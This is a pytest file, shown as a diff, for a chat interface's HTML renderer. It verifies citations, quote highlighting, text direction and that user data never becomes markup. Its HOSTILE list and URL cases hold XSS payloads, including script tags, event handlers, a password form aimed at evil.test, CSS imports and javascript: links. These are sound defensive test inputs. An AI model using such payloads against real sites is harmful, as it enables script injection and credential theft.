@@ -1,0 +1,202 @@
+"""Replies as HTML: what is shown, and that data never becomes markup."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+
+from rag.types import AnswerSentence, Declined, Evidence, Page, Passage, Quote, SourceDocument
+from rag.wording import languages, messages
+from ui import chat_html, markup
+from ui.chat_html import Cited
+
+TEXT = "Plans have seven pillars.\nEach county has a plan of its own. It is reviewed yearly."
+QUOTED = "Each county has a plan of its own."
+HOSTILE = [
+    "<img src=x onerror=alert(1)>",
+    "<script>window.__pwned=1</script>",
+    '"><svg/onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    "</dialog></article><form action=//evil.test><input name=password>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "javascript:alert(1)",
+    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${window.__pwned=1}`",
+    "<style>@import '//evil.test'</style><link rel=stylesheet href=//evil.test>",
+    "<a href='javascript:alert(1)'>x</a><base href=//evil.test>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    '<!--<img src=--><img src=x onerror=alert(1)//">',
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+]
+TAGS = {
+    "article", "a", "bdi", "blockquote", "br", "button", "cite", "code", "details", "dialog", "div",
+    "h2", "h3", "header", "li", "mark", "p", "pre", "section", "span", "summary", "ul",
+}  # fmt: skip
+ATTRIBUTES = {
+    "aria-haspopup", "aria-hidden", "aria-label", "class", "data-n", "data-state", "dir", "href",
+    "lang", "rel", "role", "tabindex", "target", "type",
+}  # fmt: skip
+
+
+class Parsed(HTMLParser):
+    """Tags, attributes and text as a browser would find them."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.text = ""
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment in the markup: {data}")
+
+
+def only_ours(markup: str) -> Parsed:
+    """The parsed markup, which may hold nothing but what we write ourselves."""
+    parsed = Parsed(markup)
+    assert set(parsed.tags) <= TAGS
+    assert {name for name, _ in parsed.attributes} <= ATTRIBUTES
+    for name, value in parsed.attributes:
+        assert name != "href" or re.match("https?://", value or "")
+        assert name != "class" or not value or value.startswith("sanad-")
+    return parsed
+
+
+def cited(**fields: object) -> Cited:
+    values = {
+        "id": "kenya.md", "work_id": "kenya", "title": "County plans", "language": "en",
+        "url": "https://example.org/plans", "date": "2024-12-21", "publisher": "Strong Cities",
+        **fields,
+    }  # fmt: skip
+    document = SourceDocument(**values)  # type: ignore[arg-type]
+    body = TEXT.index("Each")
+    passage = Passage(document.id, 3, body, len(TEXT), TEXT[body:], ("Kenya", "Pillars"))
+    quote = Quote(document.id, 3, body, body + len(QUOTED), QUOTED)
+    return Cited(Evidence(1, passage, quote), document, Page(3, TEXT, "iii"))
+
+
+def shown(item: Cited, said: str = QUOTED, language: str = "en") -> str:
+    sentence = AnswerSentence(said, (1,), "County plans, 21 December 2024")
+    return chat_html.answer([sentence], {1: item}, language)
+
+
+def test_a_sentence_carries_a_button_for_its_passage():
+    markup = shown(cited())
+    assert "Quoted from the documents" in Parsed(markup).text
+    tail = '<span class="sanad-tail"><span class="sanad-end">own.</span>&nbsp;<button type="button"'
+    assert f'of its {tail} class="sanad-cite" data-n="1"' in markup
+    assert 'aria-label="Passage 1: County plans"' in markup
+
+
+def test_passage_shows_its_quote_marked_in_place_with_where_it_comes_from():
+    markup = chat_html.passage(cited(), "en")
+    words = Parsed(markup).text
+    assert f"<mark>{QUOTED}</mark> It is reviewed yearly." in markup
+    for fact in ("County plans", "2024", "p. iii", "English", "Strong Cities", "Kenya › Pillars"):
+        assert fact in words
+    assert 'href="https://example.org/plans"' in markup
+    assert 'rel="noopener noreferrer nofollow"' in markup
+
+
+def test_nothing_is_marked_when_the_stored_text_is_not_the_quote():
+    item = cited()
+    moved = replace(item, page=Page(3, "x" + TEXT))
+    assert "<mark>" not in chat_html.passage_text(moved)
+
+
+def test_a_quote_over_two_paragraphs_is_marked_in_both():
+    item = cited()
+    whole = Quote("kenya.md", 3, TEXT.index("seven"), TEXT.index(" It is"), "")
+    whole = replace(whole, text=TEXT[whole.start : whole.end])
+    both = replace(item, evidence=replace(item.evidence, quote=whole))
+    assert chat_html.passage_text(both) == (
+        f"<p><mark>seven pillars.</mark></p><p><mark>{QUOTED}</mark> It is reviewed yearly.</p>"
+    )
+
+
+def test_machine_translation_is_said_with_the_answer_and_in_the_passage():
+    words = Parsed(shown(cited(machine_translated=True))).text
+    assert "machine-translated" in words
+    assert messages("en")["chat"]["machine_translation_note"] in words
+
+
+def test_each_piece_has_its_own_language_and_direction():
+    item = cited(language="ar", title="خطط المقاطعات")
+    markup = chat_html.turn("What?", shown(item), "en", running=False)
+    assert '<article class="sanad-turn" data-state="finished" lang="en" dir="ltr">' in markup
+    assert '<cite lang="ar" dir="rtl">خطط المقاطعات</cite>' in markup
+    assert '<blockquote lang="ar" dir="rtl">' in markup
+    assert '<h2 class="sanad-question" dir="auto">' in markup
+
+
+def test_unknown_language_leaves_the_direction_to_the_text():
+    assert markup.marked("und") == ' dir="auto"'
+
+
+def test_sources_list_is_closed_and_names_each_document_once():
+    markup = shown(cited())
+    assert '<details class="sanad-sources"><summary>Sources (1)</summary>' in markup
+    assert markup.count("<li>") == 1
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["javascript:alert(1)", "data:text/html,x", "//evil.test", "file:///etc/passwd", "", "http://[",
+     "JaVaScript:alert(1)", "\tjavascript:alert(1)", "vbscript:x", "https:"],
+)  # fmt: skip
+def test_only_web_addresses_become_links(url):
+    assert markup.link(url, "Open", "new tab") == ""
+
+
+@pytest.mark.parametrize("evil", HOSTILE)
+def test_hostile_strings_stay_text_in_every_field_of_an_answer(evil):
+    item = cited(title=evil, publisher=evil, url=evil, date=evil, language=evil[:40])
+    passage = replace(item.evidence.passage, headings=(evil,), start=0, end=len(evil))
+    quote = Quote("kenya.md", 3, 0, len(evil), evil)
+    item = Cited(Evidence(1, passage, quote), item.document, Page(3, evil, evil))
+    body = chat_html.answer([AnswerSentence(evil, (1,), evil)], {1: item}, "en", [evil])
+    markup = chat_html.turn(evil, body, "en", running=True, announcement=evil)
+    assert evil in only_ours(markup).text
+
+
+@pytest.mark.parametrize("evil", HOSTILE)
+def test_hostile_strings_stay_text_in_a_decline_and_a_notice(evil):
+    nearest = SourceDocument("x", "x", evil, "en", url=f"https://example.org/{evil}")
+    reply = Declined(evil, "en", "nothing_found", (nearest,), (evil,), (evil,))
+    assert evil in only_ours(chat_html.declined(reply, 1000)).text
+    assert evil in only_ours(chat_html.notice(evil, evil) + chat_html.stage(evil)).text
+
+
+def test_direction_overrides_are_removed_and_joiners_kept():
+    assert markup.text("a\u202egpj.exe\u2066b\u0000") == "agpj.exeb"
+    assert markup.text("می\u200cخواهم") == "می\u200cخواهم"
+
+
+def test_decline_says_why_what_is_near_and_what_is_covered():
+    near = SourceDocument("a.md", "a", "Plans", "ar", date="2024")
+    reply = Declined("?", "es", "too_long", (near,), ("youth", "migration"))
+    words = Parsed(chat_html.declined(reply, 300)).text
+    assert "300" in words
+    assert "Plans, 2024 (en árabe)" in words
+    assert "juventud, migración" in words
+
+
+@pytest.mark.parametrize("language", languages())
+def test_every_interface_language_has_every_message(language):
+    assert messages(language)["chat"].keys() == messages("en")["chat"].keys()
+    assert messages(language)["chat"]["kinds"].keys() == messages("en")["chat"]["kinds"].keys()
+    for key, value in messages(language)["chat"].items():
+        if key != "kinds":
+            fields = set(re.findall(r"\{(\w+)\}", value))
+            assert fields == set(re.findall(r"\{(\w+)\}", messages("en")["chat"][key])), key
